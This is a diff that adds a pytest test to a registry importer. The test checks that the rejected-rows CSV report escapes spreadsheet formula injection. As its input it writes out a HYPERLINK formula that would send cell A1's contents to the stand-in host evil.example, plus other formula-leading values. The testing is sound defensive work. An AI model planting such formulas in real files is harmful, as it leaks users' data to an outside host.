@@ -296,6 +296,28 @@ def test_a_formula_cell_rejects_its_row_naming_the_cell(fresh_database, tmp_path
     assert "D4（居住状态）" in rejections[4].reason
 
 
+def test_the_rejected_rows_report_carries_no_formula(fresh_database, tmp_path):
+    """Whatever a rejected row held comes back as text: a spreadsheet opening the report runs nothing."""
+    evil = '=HYPERLINK("https://evil.example/?x="&A1,"点我")'
+    path = write_csv(tmp_path / "evil.csv", [person_row(0), [evil, "+坏行", "", "", "", "", ""],
+                                             ["@SUM(1)", "-坏行", "", "", "", "", ""]])
+    assert _import(fresh_database, path, "--rejected", str(tmp_path / "report.csv")).exit_code == 0
+    job = _job(fresh_database)
+    assert job.rows_rejected == 2
+    from tongban.registry import importer
+
+    with fresh_database.sessionmaker()() as db:
+        report = "".join(importer.rejected_csv(db, job.id)).lstrip("\ufeff")
+    rows = list(csv.reader(report.splitlines()))
+    assert rows[0] == ["行号", "主键", "原因", "原始内容"] and len(rows) == 3
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    assert rows[1][1] == "'" + evil and rows[1][3].startswith("'" + evil)
+    assert rows[2][1] == "'@SUM(1)" and rows[1][0] == "3"  # line numbers stay numbers
+    written = list(csv.reader((tmp_path / "report.csv").read_text(encoding="utf-8-sig").splitlines()))
+    assert written == rows  # the command line writes the same report
+
+
 def test_uploads_over_the_limit_are_refused_before_reading(fresh_database):
     from fastapi.testclient import TestClient
 
